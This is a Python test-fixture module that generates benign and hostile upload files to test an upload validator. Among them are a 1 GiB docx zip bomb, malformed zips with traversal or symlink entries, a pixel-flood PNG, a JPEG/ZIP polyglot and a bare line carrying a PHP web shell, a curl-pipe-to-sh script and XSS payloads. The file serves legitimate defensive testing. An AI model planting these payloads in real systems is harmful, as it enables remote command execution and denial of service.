"""Every test file for the upload checks, generated in code into a directory.

Nothing binary is committed: PDFs come from Pillow/pypdf, Office files from zipfile (or the small
raw zip writer below when a test needs a malformed or hostile container), legacy .doc/.xls from the
small OLE2 (compound file) writer below, images from Pillow/pillow-heif or, for pixel floods, a
hand-built PNG (so the test never allocates the 400 MP image it describes).

Each function takes a directory (pathlib.Path) and returns the path of the file it wrote.
"""

from __future__ import annotations

import gzip
import io
import os
import struct
import time
import warnings
import zipfile
import zlib
from pathlib import Path

from PIL import Image, ImageDraw

# ------------------------------------------------------------------------------------------
# Helpers
# ------------------------------------------------------------------------------------------


def write(d: Path, name: str, data: bytes) -> Path:
    path = Path(d) / name
    path.write_bytes(data)
    return path


def _picture(size=(400, 200), seed: int = 0) -> Image.Image:
    """A small picture with a red block in the top-left corner (to check orientation)."""
    im = Image.new("RGB", size, (40 + seed % 200, 120, 200))
    draw = ImageDraw.Draw(im)
    w, h = size
    draw.rectangle([0, 0, w // 4, h // 4], fill=(255, 0, 0))
    draw.ellipse([w // 3, h // 3, w // 3 + h // 3, 2 * h // 3], fill=(250, 250, 250))
    return im


# ------------------------------------------------------------------------------------------
# PDF
# ------------------------------------------------------------------------------------------


# Pillow stamps /CreationDate and /ModDate with the current second unless told otherwise: two "identical" PDFs
# made a second apart would differ, and a test expecting the same SHA-256 would fail at random.
_PDF_DATES = {
    "creationDate": time.struct_time((2024, 1, 1, 0, 0, 0, 0, 1, 0)),
    "modDate": time.struct_time((2024, 1, 1, 0, 0, 0, 0, 1, 0)),
}


def pdf(d: Path, name: str = "bao-cao.pdf", pages: int = 3) -> Path:
    path = Path(d) / name
    images = [_picture((210, 297), seed=i) for i in range(pages)]
    images[0].save(path, "PDF", save_all=True, append_images=images[1:], resolution=72, **_PDF_DATES)
    return path


def pdf_bytes(pages: int = 1) -> bytes:
    buf = io.BytesIO()
    images = [_picture((100, 140), seed=i) for i in range(pages)]
    images[0].save(buf, "PDF", save_all=True, append_images=images[1:], resolution=72, **_PDF_DATES)
    return buf.getvalue()


def padded(pdf: bytes, size: int) -> bytes:
    """`pdf` made about `size` bytes long by a comment of random hex digits after its end marker (readers ignore
    it; no two calls give the same bytes). Hex, not raw random bytes: 1 raw tail in ~400 held a line pypdf took
    for a truncated end marker, and the test that used it failed at random."""
    return pdf + b"%" + os.urandom(max(0, size - len(pdf) - 1) // 2 + 1).hex().encode()


def encrypted_pdf(
    d: Path, name: str = "mat-khau.pdf", user_password: str = "mat-khau", algorithm: str = "RC4-128"
) -> Path:
    """user_password="" gives an owner-password-only PDF (restrictions, opens without a password).
    RC4 by default, so that decrypting needs no optional crypto package (AES needs `cryptography`)."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(2):
        writer.add_blank_page(width=200, height=200)
    writer.encrypt(user_password=user_password, owner_password="chu-so-huu", algorithm=algorithm)
    path = Path(d) / name
    with open(path, "wb") as f:
        writer.write(f)
    return path


def corrupt_pdf(d: Path, name: str = "hong.pdf") -> Path:
    garbage = bytes((i * 37 + 11) % 256 for i in range(3000))
    return write(d, name, b"%PDF-1.4\n" + garbage)


# ------------------------------------------------------------------------------------------
# OOXML (.docx / .xlsx / .pptx) built with zipfile
# ------------------------------------------------------------------------------------------
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
R_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

MAIN_CT = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
}


def _content_types(overrides: dict[str, str], defaults: dict[str, str] | None = None) -> str:
    defaults = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        **(defaults or {}),
    }
    parts = [XML_DECL, f'<Types xmlns="{CT_NS}">']
    parts += [f'<Default Extension="{ext}" ContentType="{ct}"/>' for ext, ct in defaults.items()]
    parts += [f'<Override PartName="/{name}" ContentType="{ct}"/>' for name, ct in overrides.items()]
    parts.append("</Types>")
    return "".join(parts)


def _rels(*rels: tuple[str, str, str] | tuple[str, str, str, str]) -> str:
    """(Id, Type suffix or full URI, Target[, TargetMode])"""
    out = [XML_DECL, f'<Relationships xmlns="{REL_NS}">']
    for rel in rels:
        rid, rtype, target = rel[:3]
        rtype = rtype if "://" in rtype else f"{R_OFFICE}/{rtype}"
        mode = f' TargetMode="{rel[3]}"' if len(rel) > 3 else ""
        out.append(f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode}/>')
    out.append("</Relationships>")
    return "".join(out)


def ooxml_parts(kind: str, main_ct: str | None = None) -> dict[str, str | bytes]:
    """The minimal parts of a valid package of `kind` (docx/xlsx/pptx), name → content."""
    if kind == "docx":
        w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
        return {
            "[Content_Types].xml": _content_types({"word/document.xml": main_ct or MAIN_CT["docx"]}),
            "_rels/.rels": _rels(("rId1", "officeDocument", "word/document.xml")),
            "word/document.xml": (
                f'{XML_DECL}<w:document xmlns:w="{w}"><w:body><w:p><w:r><w:t>Đơn đề nghị xác nhận minh chứng'
                "</w:t></w:r></w:p></w:body></w:document>"
            ),
        }
    if kind == "xlsx":
        s = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
        return {
            "[Content_Types].xml": _content_types(
                {
                    "xl/workbook.xml": main_ct or MAIN_CT["xlsx"],
                    "xl/worksheets/sheet1.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
                }
            ),
            "_rels/.rels": _rels(("rId1", "officeDocument", "xl/workbook.xml")),
            "xl/workbook.xml": (
                f'{XML_DECL}<workbook xmlns="{s}" xmlns:r="{R_OFFICE}"><sheets>'
                '<sheet name="Chỉ tiêu" sheetId="1" r:id="rId1"/></sheets></workbook>'
            ),
            "xl/_rels/workbook.xml.rels": _rels(("rId1", "worksheet", "worksheets/sheet1.xml")),
            "xl/worksheets/sheet1.xml": (
                f'{XML_DECL}<worksheet xmlns="{s}"><sheetData><row r="1"><c r="A1"><v>86.34</v></c></row>'
                "</sheetData></worksheet>"
            ),
        }
    if kind == "pptx":
        p = "http://schemas.openxmlformats.org/presentationml/2006/main"
        a = "http://schemas.openxmlformats.org/drawingml/2006/main"
        return {
            "[Content_Types].xml": _content_types(
                {
                    "ppt/presentation.xml": main_ct or MAIN_CT["pptx"],
                    "ppt/slides/slide1.xml": "application/vnd.openxmlformats-officedocument.presentationml.slide+xml",
                }
            ),
            "_rels/.rels": _rels(("rId1", "officeDocument", "ppt/presentation.xml")),
            "ppt/presentation.xml": (
                f'{XML_DECL}<p:presentation xmlns:p="{p}" xmlns:r="{R_OFFICE}"><p:sldIdLst>'
                '<p:sldId id="256" r:id="rId2"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/>'
                '<p:notesSz cx="6858000" cy="9144000"/></p:presentation>'
            ),
            "ppt/_rels/presentation.xml.rels": _rels(("rId2", "slide", "slides/slide1.xml")),
            "ppt/slides/slide1.xml": (
                f'{XML_DECL}<p:sld xmlns:p="{p}" xmlns:a="{a}"><p:cSld><p:spTree><p:nvGrpSpPr>'
                '<p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
                "</p:spTree></p:cSld></p:sld>"
            ),
        }
    raise ValueError(kind)


def zip_file(d: Path, name: str, parts: dict[str, str | bytes], *, first: str | None = None) -> Path:
    """A zip written with zipfile (DEFLATED; `first` stored uncompressed and first, as ODF wants)."""
    path = Path(d) / name
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # "Duplicate name" when a test wants one
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
            if first is not None:
                zf.writestr(zipfile.ZipInfo(first), parts[first], compress_type=zipfile.ZIP_STORED)
            for part, content in parts.items():
                if part != first:
                    zf.writestr(part, content)
    return path


def ooxml(
    d: Path, kind: str, name: str | None = None, extra: dict[str, str | bytes] | None = None, main_ct=None
) -> Path:
    parts = {**ooxml_parts(kind, main_ct), **(extra or {})}
    return zip_file(d, name or f"tai-lieu.{kind}", parts)


def docx_with_external(d: Path, rel_type: str, target: str, name: str = "mau.docx") -> Path:
    parts = ooxml_parts("docx")
    parts["word/_rels/document.xml.rels"] = _rels(("rId9", rel_type, target, "External"))
    return zip_file(d, name, parts)


def docx_with_entry(d: Path, entry: str, name: str = "x.docx", data: bytes = b"x", symlink: bool = False) -> Path:
    """A valid docx plus one extra entry, given verbatim (e.g. "../evil")."""
    path = Path(d) / name
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        warnings.simplefilter("ignore", UserWarning)  # "Duplicate name" when a test wants one
        for part, content in ooxml_parts("docx").items():
            zf.writestr(part, content)
        info = zipfile.ZipInfo(entry)
        if symlink:
            info.create_system = 3
            info.external_attr = 0o120777 << 16
        zf.writestr(info, data)
    return path


# ------------------------------------------------------------------------------------------
# A raw zip writer, for containers zipfile will not write (bombs, lies, overlaps)
# ------------------------------------------------------------------------------------------


def raw_zip(entries: list[dict]) -> bytes:
    """entries: dicts with name, data (already compressed), method (0 stored / 8 deflated), crc,
    size (declared uncompressed), and optionally offset_of (index of an earlier entry whose local
    header this central entry points to: overlapping entries)."""
    out = bytearray()
    central = bytearray()
    offsets = []
    for _i, e in enumerate(entries):
        name = e["name"].encode("utf-8")
        flags = 0x800
        if "offset_of" in e:
            offset = offsets[e["offset_of"]]
        else:
            offset = len(out)
            out += struct.pack(
                "<4s5H3L2H",
                b"PK\x03\x04",
                20,
                flags,
                e["method"],
                0,
                0x21,
                e["crc"],
                len(e["data"]),
                e["size"],
                len(name),
                0,
            )
            out += name + e["data"]
        offsets.append(offset)
        central += struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            flags,
            e["method"],
            0,
            0x21,
            e["crc"],
            len(e["data"]),
            e["size"],
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += name
    cd_offset = len(out)
    out += central
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), cd_offset, 0)
    return bytes(out)


def _deflated(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def raw_entry(name: str, content: str | bytes, **over) -> dict:
    data = content.encode("utf-8") if isinstance(content, str) else content
    entry = {"name": name, "data": _deflated(data), "method": 8, "crc": zlib.crc32(data), "size": len(data)}
    entry.update(over)
    return entry


def _zeros_deflate_stream(total: int, chunk: int = 1 << 20) -> tuple[bytes, int]:
    """A raw deflate stream of `total` zero bytes, and its CRC-32, built without compressing a
    gigabyte: one chunk is deflated with a full flush (byte-aligned, no back-references across it),
    repeated, and closed with an empty final block. The CRC is computed chunk by chunk."""
    assert total % chunk == 0
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(bytes(chunk)) + c.flush(zlib.Z_FULL_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    zeros = bytes(chunk)
    crc = 0
    for _ in range(total // chunk):
        crc = zlib.crc32(zeros, crc)
    return block * (total // chunk) + final, crc


def docx_zip_bomb(d: Path, name: str = "bom.docx", total: int = 1 << 30) -> Path:
    """A well-formed docx whose word/document.xml inflates to `total` zero bytes (1 GiB by default)
    from about 1 MB of deflate data."""
    stream, crc = _zeros_deflate_stream(total)
    parts = ooxml_parts("docx")
    entries = [raw_entry(n, c) for n, c in parts.items() if n != "word/document.xml"]
    entries.append({"name": "word/document.xml", "data": stream, "method": 8, "crc": crc, "size": total})
    return write(d, name, raw_zip(entries))


def docx_lying_sizes(d: Path, name: str = "noi-doi.docx") -> Path:
    """word/document.xml declares 1000 bytes but its deflate stream holds 64 MiB of zeros."""
    stream, crc = _zeros_deflate_stream(64 << 20)
    parts = ooxml_parts("docx")
    entries = [raw_entry(n, c) for n, c in parts.items() if n != "word/document.xml"]
    entries.append({"name": "word/document.xml", "data": stream, "method": 8, "crc": crc, "size": 1000})
    return write(d, name, raw_zip(entries))


def docx_overlapping(d: Path, name: str = "chong.docx") -> Path:
    """Two central-directory entries pointing at the same local data."""
    parts = ooxml_parts("docx")
    entries = [raw_entry(n, c) for n, c in parts.items()]
    doc_index = next(i for i, e in enumerate(entries) if e["name"] == "word/document.xml")
    copy = dict(entries[doc_index], name="word/document2.xml", offset_of=doc_index)
    entries.append(copy)
    return write(d, name, raw_zip(entries))


def docx_bad_crc(d: Path, name: str = "crc.docx") -> Path:
    parts = ooxml_parts("docx")
    entries = [raw_entry(n, c) for n, c in parts.items()]
    for e in entries:
        if e["name"] == "word/document.xml":
            e["crc"] ^= 0xDEADBEEF
    return write(d, name, raw_zip(entries))


def zip_many_entries(d: Path, count: int, name: str = "nhieu.docx") -> Path:
    path = Path(d) / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        for part, content in ooxml_parts("docx").items():
            zf.writestr(part, content)
        for i in range(count):
            zf.writestr(f"word/media/e{i}.txt", b"")
    return path


def docx_raw_with_entry(d: Path, entry: str, name: str = "raw.docx") -> Path:
    """Like docx_with_entry, through the raw writer: zipfile itself cuts names at NUL."""
    entries = [raw_entry(n, c) for n, c in ooxml_parts("docx").items()] + [raw_entry(entry, b"x")]
    return write(d, name, raw_zip(entries))


def plain_zip(d: Path, name: str = "tai-lieu.zip") -> Path:
    return zip_file(d, name, {"readme.txt": "Xin chào", "data/so-lieu.csv": "a,b\n1,2\n"})


# ------------------------------------------------------------------------------------------
# ODF (.odt / .ods)
# ------------------------------------------------------------------------------------------
ODF_TEXT = "application/vnd.oasis.opendocument.text"
ODF_SHEET = "application/vnd.oasis.opendocument.spreadsheet"


def odf(
    d: Path, mimetype: str = ODF_TEXT, name: str | None = None, extra: dict | None = None, encrypted: bool = False
) -> Path:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    manifest_ns = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    enc = (
        '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA">'
        '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="AAAA"/>'
        "</manifest:encryption-data>"
        if encrypted
        else ""
    )
    parts = {
        "mimetype": mimetype,
        "META-INF/manifest.xml": (
            f'{XML_DECL}<manifest:manifest xmlns:manifest="{manifest_ns}" manifest:version="1.2">'
            f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
            f'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">{enc}'
            "</manifest:file-entry></manifest:manifest>"
        ),
        "content.xml": (
            b"\x00\x01garbage-ciphertext"
            if encrypted
            else (
                f'{XML_DECL}<office:document-content xmlns:office="{office}" xmlns:text="{text}" office:version="1.2">'
                "<office:body><office:text><text:p>Biên bản họp</text:p></office:text></office:body>"
                "</office:document-content>"
            )
        ),
        **(extra or {}),
    }
    ext = {ODF_TEXT: "odt", ODF_SHEET: "ods"}.get(mimetype, "zip")
    return zip_file(d, name or f"bien-ban.{ext}", parts, first="mimetype")


# ------------------------------------------------------------------------------------------
# OLE2 compound files (.doc / .xls) — a minimal writer (version 3, 512-byte sectors)
# ------------------------------------------------------------------------------------------
_FREE, _END, _FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
_NOSTREAM = 0xFFFFFFFF


def ole2(tree: dict) -> bytes:
    """Build a compound file from a tree {name: bytes (stream) | dict (storage)}.
    Streams under 4096 bytes go to the mini stream, as the format requires."""
    sector, mini = 512, 64
    dirs: list[dict] = []

    def add(name, node):
        entry = {"name": name, "node": node, "kids": [], "start": _END, "size": 0}
        index = len(dirs)
        dirs.append(entry)
        if isinstance(node, dict):
            for child_name, child in node.items():
                entry["kids"].append(add(child_name, child))
        return index

    add("Root Entry", tree)

    ministream = bytearray()
    minifat: list[int] = []
    big: list[tuple[int, bytes]] = []
    for idx, e in enumerate(dirs):
        if not isinstance(e["node"], bytes):
            continue
        data = e["node"]
        e["size"] = len(data)
        if len(data) == 0:
            continue
        if len(data) < 4096:
            first = len(minifat)
            n = -(-len(data) // mini)
            minifat += [first + i + 1 for i in range(n - 1)] + [_END]
            ministream += data.ljust(n * mini, b"\x00")
            e["start"] = first
        else:
            big.append((idx, data))

    chains: list[tuple[str, int, bytes]] = [("stream", idx, data) for idx, data in big]
    if ministream:
        chains.append(("ministream", 0, bytes(ministream)))
    minifat_bytes = struct.pack(f"<{len(minifat)}L", *minifat) if minifat else b""
    if minifat_bytes:
        chains.append(("minifat", 0, minifat_bytes.ljust(-(-len(minifat_bytes) // sector) * sector, b"\xff")))

    n_dir_sectors = -(-len(dirs) // 4)
    used = sum(-(-len(data) // sector) for _, _, data in chains) + n_dir_sectors
    n_fat = 1
    while n_fat * 128 < used + n_fat:
        n_fat += 1
    assert n_fat <= 109, "the test writer has no DIFAT"

    fat = [_FATSECT] * n_fat
    body = bytearray()
    minifat_start = _END
    for what, idx, data in chains:
        start = len(fat)
        n = -(-len(data) // sector)
        fat += [start + i + 1 for i in range(n - 1)] + [_END]
        body += data.ljust(n * sector, b"\x00")
        if what == "stream":
            dirs[idx]["start"] = start
        elif what == "ministream":
            dirs[0]["start"], dirs[0]["size"] = start, len(data)
        else:
            minifat_start = start
    dir_start = len(fat)
    fat += [dir_start + i + 1 for i in range(n_dir_sectors - 1)] + [_END]
    fat += [_FREE] * (n_fat * 128 - len(fat))

    def sort_key(i):
        name = dirs[i]["name"]
        return (len(name), name.upper())

    left_right = dict.fromkeys(range(len(dirs)), _NOSTREAM)
    child_of = {}
    for i, e in enumerate(dirs):
        kids = sorted(e["kids"], key=sort_key)
        child_of[i] = kids[0] if kids else _NOSTREAM
        for a, b in zip(kids, kids[1:]):
            left_right[a] = b  # a degenerate (all right siblings) tree: readers do not rebalance

    directory = bytearray()
    for i, e in enumerate(dirs):
        name = e["name"].encode("utf-16-le") + b"\x00\x00"
        obj_type = 5 if i == 0 else (2 if isinstance(e["node"], bytes) else 1)
        start = e["start"] if obj_type != 1 else 0
        directory += struct.pack(
            "<64sHBB3L16sL2Q2LL",
            name,
            len(name),
            obj_type,
            1,
            _NOSTREAM,
            left_right[i],
            child_of[i],
            b"\x00" * 16,
            0,
            0,
            0,
            start,
            e["size"],
            0,
        )
    directory = directory.ljust(n_dir_sectors * sector, b"\x00")
    # Unused directory slots must be empty entries with NOSTREAM links.
    empty = struct.pack(
        "<64sHBB3L16sL2Q2LL", b"", 0, 0, 0, _NOSTREAM, _NOSTREAM, _NOSTREAM, b"\x00" * 16, 0, 0, 0, 0, 0, 0
    )
    for slot in range(len(dirs), n_dir_sectors * 4):
        directory[slot * 128 : (slot + 1) * 128] = empty

    fat_bytes = struct.pack(f"<{len(fat)}L", *fat)
    difat = list(range(n_fat)) + [_FREE] * (109 - n_fat)
    header = struct.pack(
        "<8s16s5H6s9L",
        bytes.fromhex("D0CF11E0A1B11AE1"),
        b"\x00" * 16,
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"\x00" * 6,
        0,
        n_fat,
        dir_start,
        0,
        4096,
        minifat_start,
        -(-len(minifat_bytes) // sector),
        _END,
        0,
    ) + struct.pack("<109L", *difat)
    assert len(header) == 512
    return header + fat_bytes + bytes(body) + bytes(directory)


def word_fib(encrypted: bool = False, size: int = 8192) -> bytes:
    flags = 0x0100 if encrypted else 0
    fib = struct.pack("<HHHHHH", 0xA5EC, 0x00C1, 0, 0x042A, 0, flags)
    return fib.ljust(size, b"\x00")


def biff_workbook(encrypted: bool = False, size: int = 8192) -> bytes:
    bof = struct.pack("<HH", 0x0809, 16) + struct.pack("<HHHHLL", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 6)
    filepass = struct.pack("<HH", 0x002F, 54) + b"\x01\x00" + b"\x00" * 52 if encrypted else b""
    eof = struct.pack("<HH", 0x000A, 0)
    return (bof + filepass + eof).ljust(size, b"\x00")


def doc(d: Path, name: str = "cong-van.doc", *, macros: bool = False, encrypted: bool = False) -> Path:
    tree: dict = {"WordDocument": word_fib(encrypted), "1Table": b"\x00" * 600, "\x05SummaryInformation": b"\x00" * 200}
    if macros:
        tree["Macros"] = {"VBA": {"dir": b"\x01" * 300, "ThisDocument": b"Attribute VB_Name" * 10}, "PROJECT": b"ID=x"}
    return write(d, name, ole2(tree))


def xls(
    d: Path, name: str = "so-lieu.xls", *, macros: bool = False, encrypted: bool = False, small: bool = False
) -> Path:
    tree: dict = {"Workbook": biff_workbook(encrypted, size=1200 if small else 8192)}
    if macros:
        tree["_VBA_PROJECT_CUR"] = {"VBA": {"dir": b"\x01" * 300}, "PROJECT": b"ID=x"}
    return write(d, name, ole2(tree))


def ole_other(d: Path, name: str = "trinh-chieu.ppt") -> Path:
    return write(d, name, ole2({"PowerPoint Document": b"\x00" * 5000, "Current User": b"\x00" * 60}))


def ole_encrypted_ooxml(d: Path, name: str = "bao-mat.docx") -> Path:
    """What Office writes for a password-protected .docx: an OLE container, not a zip."""
    return write(d, name, ole2({"EncryptionInfo": b"\x04\x00\x04\x00" * 50, "EncryptedPackage": b"\x00" * 5000}))


# ------------------------------------------------------------------------------------------
# Images
# ------------------------------------------------------------------------------------------
GPS_IFD = 0x8825
EXIF_IFD = 0x8769


def exif_block(
    orientation: int | None = None,
    taken: str | None = "2024:03:15 09:30:00",
    offset: str | None = None,
    gps: bool = False,
) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "Minh Chung Test Camera"
    if orientation is not None:
        exif[0x0112] = orientation
    if taken is not None:
        exif.get_ifd(EXIF_IFD)[0x9003] = taken
    if offset is not None:
        exif.get_ifd(EXIF_IFD)[0x9011] = offset
    if gps:
        ifd = exif.get_ifd(GPS_IFD)
        ifd[1] = "N"
        ifd[2] = (21.0, 1.0, 30.0)
        ifd[3] = "E"
        ifd[4] = (105.0, 51.0, 0.0)
    return exif


XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="21,1.5N"/></rdf:RDF></x:xmpmeta>'
)


def jpeg_bytes(
    size=(400, 200), exif: Image.Exif | None = None, comment: bytes | None = None, xmp: bytes | None = None, quality=90
) -> bytes:
    buf = io.BytesIO()
    params = {"quality": quality}
    if exif is not None:
        params["exif"] = exif
    if comment is not None:
        params["comment"] = comment
    if xmp is not None:
        params["xmp"] = xmp
    _picture(size).save(buf, "JPEG", **params)
    return buf.getvalue()


def jpeg(d: Path, name: str = "anh.jpg", **kw) -> Path:
    return write(d, name, jpeg_bytes(**kw))


def phone_photo(d: Path, name: str = "IMG_0001.JPG") -> Path:
    """Orientation 6 (rotate 90° clockwise to display), GPS, a COM comment and XMP."""
    return jpeg(d, name, exif=exif_block(orientation=6, gps=True), comment=b"Nha rieng, so 12 ngo 34", xmp=XMP)


def truncated_jpeg(d: Path, name: str = "cut.jpg") -> Path:
    noise = Image.effect_noise((256, 256), 80).convert("RGB")
    buf = io.BytesIO()
    noise.save(buf, "JPEG", quality=95)
    data = buf.getvalue()
    return write(d, name, data[: len(data) * 6 // 10])


def image(d: Path, fmt: str, name: str, size=(300, 200), **params) -> Path:
    path = Path(d) / name
    _picture(size).save(path, fmt, **params)
    return path


def heic(d: Path, name: str = "IMG_0002.HEIC", exif: Image.Exif | None = None) -> Path:
    import pillow_heif

    pillow_heif.register_heif_opener()
    path = Path(d) / name
    params = {"quality": 60}
    if exif is not None:
        params["exif"] = exif.tobytes()
    _picture((256, 192)).save(path, "HEIF", **params)
    return path


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_flood(d: Path, name: str = "bom.png", width: int = 20000, height: int = 20000, rgb: bool = False) -> Path:
    """A 1-bit grey PNG of width × height white... er, black pixels, a few dozen KB on disk, built
    row by row so the test never holds the image (what Image.new("1", (20000, 20000)) would).
    `rgb`: an 8-bit RGB PNG of one light colour instead (a few hundred KB at 60 MP)."""
    row = b"\x00" + (bytes((250, 250, 245)) * width if rgb else bytes((width + 7) // 8))
    comp = zlib.compressobj(9)
    idat = bytearray()
    rows_per_call = 100 if rgb else 1000
    block = row * rows_per_call
    done = 0
    while done < height:
        n = min(rows_per_call, height - done)
        idat += comp.compress(block if n == rows_per_call else row * n)
        done += n
    idat += comp.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 8 if rgb else 1, 2 if rgb else 0, 0, 0, 0)
    data = (
        b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", bytes(idat)) + _png_chunk(b"IEND", b"")
    )
    return write(d, name, data)


def polyglot_jpeg_zip(d: Path, name: str = "anh-kem.jpg") -> Path:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("payload.php", "<?php system($_GET['c']); ?>")
    return write(d, name, jpeg_bytes() + buf.getvalue())


# ------------------------------------------------------------------------------------------
# Things that must be refused
# ------------------------------------------------------------------------------------------
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 200
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>\n'
XML = b'<?xml version="1.0" encoding="UTF-8"?>\n<ho-so><muc>1</muc></ho-so>\n'
PHP = b"<?php system($_GET['c']); ?>\n"
RAR = b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64
SEVEN_Z = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 64
RTF = b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Don de nghi \\par}"
TEXT = "Biên bản họp ngày 15/03/2024\n".encode()
MP4 = struct.pack(">I", 24) + b"ftypisom" + b"\x00\x00\x02\x00" + b"isomiso2" + b"\x00" * 64
AVIF = struct.pack(">I", 28) + b"ftypavif" + b"\x00\x00\x00\x00" + b"avifmif1miaf" + b"\x00" * 64


def gz_bytes() -> bytes:
    return gzip.compress(b"hello " * 100)


def gif_bytes() -> bytes:
    buf = io.BytesIO()
    _picture((40, 20)).save(buf, "GIF")
    return buf.getvalue()
